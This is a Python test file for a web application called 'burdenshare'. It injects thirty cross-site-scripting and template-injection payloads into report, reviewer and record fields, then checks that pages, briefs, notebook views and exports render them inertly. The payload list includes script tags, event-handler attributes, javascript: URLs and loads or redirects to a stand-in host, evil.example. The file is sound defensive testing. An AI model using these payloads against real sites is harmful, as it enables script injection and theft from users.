"""Thirty texts that would be markup, in every place a stranger can write into.

They come in as text, title, outlet and address of a report, as the name and the reason of a
reviewer, and as note, actor and source of the record. No page, brief, export or notebook value may
do anything with them but show them.
"""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree as ET

import pytest

from burdenshare import export
from burdenshare.brief import html as brief_html
from burdenshare.brief import markdown
from burdenshare.case import open_case
from burdenshare.notebook import html
from burdenshare.session import run
from burdenshare.session.page import page as brief_of
from burdenshare.web.app import create_app
from burdenshare.web.site import Site
from tests.web.conftest import HOME, TOKEN, Client

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from burdenshare.session import Run

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)></iframe>",
    "</mark></div></title><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "<style>*{display:none}</style>",
    '" style="position:fixed;inset:0',
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><button formaction=javascript:alert(1)>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% for x in () %}{% endfor %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "\u202eevil\u202c\u2066<b>\u2069",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>\x1b[2J",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png) <https://evil.example>`",
)
PLACES = ("text", "title", "outlet", "address", "reviewer", "record")
TAGS = frozenset(
    re.findall(
        r"\w+",
        "html head meta title link script body a header nav div main form label input select "
        "option button span p h1 h2 h3 footer details summary pre aside table caption thead tbody "
        "tr th td small ul ol li bdi mark section article dl dt dd q b i em meter svg g rect line "
        "path circle text desc polygon polyline tspan style figure figcaption blockquote cite sup "
        "time br code strong",
    )
)
"""What our own templates and pictures are made of; nothing of it loads anything."""
LINKS = ("http://", "https://", "/", "#", "?")
assert len(PAYLOADS) == 30


class Walk(HTMLParser):
    """Says what is amiss with a document as it reads it."""

    def __init__(self, text: str, *, styled: bool = False) -> None:
        super().__init__()
        self.styled = styled
        self.amiss: list[str] = []
        self.hrefs: list[str] = []
        self.count: dict[str, int] = {}
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.count[tag] = self.count.get(tag, 0) + 1
        if tag not in TAGS or (tag == "style" and not self.styled):
            self.amiss.append(f"<{tag}>")
        for name, given in attrs:
            value = (given or "").strip().lower()
            bad = name.startswith("on") or name in {"srcdoc", "formaction", "http-equiv", "action"}
            if name == "http-equiv" and value == "content-security-policy":
                bad = False  # a brief's own
            if name == "action":
                bad = not re.fullmatch(r"/[a-z]*", value)
            if name in {"href", "src", "xlink:href"}:
                self.hrefs.append(given or "")
                bad = bool(value) and not value.startswith(LINKS)
            if name == "src":
                bad = not value.startswith("/static/")
            if name == "style" and not self.styled:
                bad = True
            if bad:
                self.amiss.append(f"{tag} {name}={given}")


def amiss(text: str, *, styled: bool = False) -> list[str]:
    found = Walk(text, styled=styled)
    turned = [f"U+{ord(c):04X}" for c in "\u202e\u2066\x00\x1b" if c in text]
    many = [tag for tag, most in (("script", 1), ("base", 0)) if found.count.get(tag, 0) > most]
    return [*found.amiss, *turned, *many]


def evil(place: str, wanted: str, n: int) -> str:
    """A payload where it is wanted, else a plain word."""
    return PAYLOADS[n] if place == wanted else f"plain{n}"


def planted(folder: Path, place: str) -> Path:
    """A case with one report for each payload, in one place of each."""
    shutil.copytree(str(open_case("@us-korea").root), folder)
    shutil.rmtree(folder / "reports")
    (folder / "reports").mkdir()
    table = []
    for n in range(len(PAYLOADS)):
        name = f"r{n:02}.{'html' if place == 'title' else 'txt'}"
        text = evil(place, "text", n)
        said = (
            f"{text} South Korea will pay 1.{n:02} trillion won in 2019 for the stationing of U.S. "
            f"troops, {text} officials said."
        )
        if place == "title":
            shown = PAYLOADS[n].replace("<", "&lt;") if n % 2 else PAYLOADS[n]
            said = (
                f"<html><head><title>{shown}</title></head><body><article><h1>{shown}</h1>"
                f"<p>{said} The accord was signed on Sunday in Seoul by both sides.</p>"
                "<p>It is valid for one year, and the parliament must ratify it first.</p>"
                "</article></body></html>"
            )
        (folder / "reports" / name).write_text(said, encoding="utf-8")
        outlet = json.dumps(evil(place, "outlet", n).replace("\x00", "").replace("\x1b", ""))
        address = json.dumps(evil(place, "address", n).replace("\x00", "").replace("\x1b", ""))
        table.append(
            f'["{name}"]\npublished = 2019-02-{n % 28 + 1:02}\n'
            f"outlet = {outlet}\naddress = {address}\n"
        )
    (folder / "reports" / "reports.toml").write_text("\n".join(table), encoding="utf-8")
    if place == "record":
        events = folder / "record" / "events.csv"
        head, *rows = events.read_text(encoding="utf-8").splitlines()
        names = head.split(",")
        for n, payload in enumerate(PAYLOADS):
            text = payload.replace("\x00", "").replace("\x1b", "").replace('"', '""')
            cells = dict.fromkeys(names, "") | {
                "date": f"2019-01-{n % 28 + 1:02}", "published": f"2019-01-{n % 28 + 1:02}",
                "talks": "sma-10", "actor": text, "event_type": "statement", "source": text,
                "note": text,
            }  # fmt: skip
            rows.append(",".join(f'"{cells[name]}"' for name in names))
        events.write_text("\n".join([head, *rows]) + "\n", encoding="utf-8")
    return folder


@pytest.fixture(scope="module", params=PLACES)
def case(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return planted(tmp_path_factory.mktemp(request.param) / "case", request.param)


@pytest.fixture(scope="module")
def done(case: Path) -> Run:
    return run(str(case))


def addresses(client: Client, case: Path) -> Iterator[str]:
    """Every page, every report, and what is linked from them, each shape of link a few times."""
    start = ["/", "/record", "/ledger", "/agreements", "/talks", "/outlook", "/review", "/sources"]
    start += ["/about", "/record?clock=said", "/outlook?as_of=2019-02-15"]
    start += [f"/sources?report={file.name}" for file in sorted((case / "reports").glob("r*"))]
    start += [f"/search?q={quote(payload)}" for payload in PAYLOADS]
    shapes: dict[tuple[str, ...], int] = {}
    for path in start:
        yield path
        for href in Walk(client.get(path).text).hrefs:
            where = urlsplit(href)
            shape = (where.path, *(part.partition("=")[0] for part in where.query.split("&")))
            shapes[shape] = shapes.get(shape, 0) + 1
            if not where.netloc and where.query and shapes[shape] <= 2:
                yield href.partition("#")[0]


def test_no_page_does_anything_with_it_but_show_it(case: Path) -> None:
    client = Client(create_app(Site(str(case), patience=None), token=TOKEN))
    if case.parent.name.startswith("reviewer"):
        keys = [row["claim"] for row in json.loads(client.get("/review.json").text)["rows"]]
        for key, payload in zip(keys, PAYLOADS, strict=False):
            form = {"token": TOKEN, "claim": key, "verdict": "scope", "by": payload,
                    "why": payload, "scope": payload}  # fmt: skip
            answer = client.send("POST", "/review", headers={"origin": HOME}, data=form)
            assert answer.status_code == 303
            assert answer.headers["location"].startswith("/review?")
    seen = 0
    for path in dict.fromkeys(addresses(client, case)):
        answer = client.get(path)
        assert answer.status_code in {200, 400, 404}, path
        if "html" in answer.headers["content-type"]:
            assert amiss(answer.text) == [], path
            seen += 1
    assert seen > 60


def test_the_brief_shows_it(done: Run) -> None:
    brief = brief_of(done)
    assert amiss(brief_html(brief), styled=True) == []
    said = markdown(brief)
    bare = re.compile(r"(?<!\\)<(?!https?://)[a-z/!]", re.IGNORECASE)  # after no backslash
    assert not bare.search(said)
    assert not re.search(r"(?<!\\)\]\(javascript:", said)


def test_values_in_a_notebook_show_it(done: Run) -> None:
    for value in (done, done.case, done.ledger, done.reading, done.claims[0], done.outlook):
        shown = getattr(value, "_repr_html_", lambda value=value: html(value))()
        assert amiss(str(shown), styled=True) == []


def test_exports_hold_it_as_text(done: Run) -> None:
    notes = json.loads(export.web_annotations(done)["annotations.jsonld"])
    assert {note["body"]["format"] for note in notes["items"]} == {"text/plain"}
    texts = {report.name: report.text for report in done.reading.reports}
    for claim, note in zip(done.claims, notes["items"], strict=True):
        place = note["target"]["selector"][1]
        assert texts[claim.report][place["start"] : place["end"]] == claim.quote
    json.loads(next(iter(export.provenance(done).values())))
    for name, data in export.datapackage(done, licence=None).items():
        if name.endswith(".csv"):
            rows = data.decode().replace('"', "").replace(",", "\n").split("\n")
            assert not [row for row in rows if row.startswith(("=", "@", "+", "\t"))], name
    book = export.workbook(done)
    assert book
    bib = next(iter(export.bibliography(done).values())).decode()
    assert bib.count("{") - bib.count("\\{") == bib.count("}") - bib.count("\\}")


def test_pictures_stay_well_formed(case: Path) -> None:
    client = Client(create_app(Site(str(case), patience=None), token=TOKEN))
    for path in ("/record", "/ledger", "/talks?as_of=2019-02-10"):
        text = client.get(path).text
        for piece in text.split("<svg")[1:]:
            ET.fromstring("<svg" + piece.partition("</svg>")[0] + "</svg>")  # noqa: S314 - our own
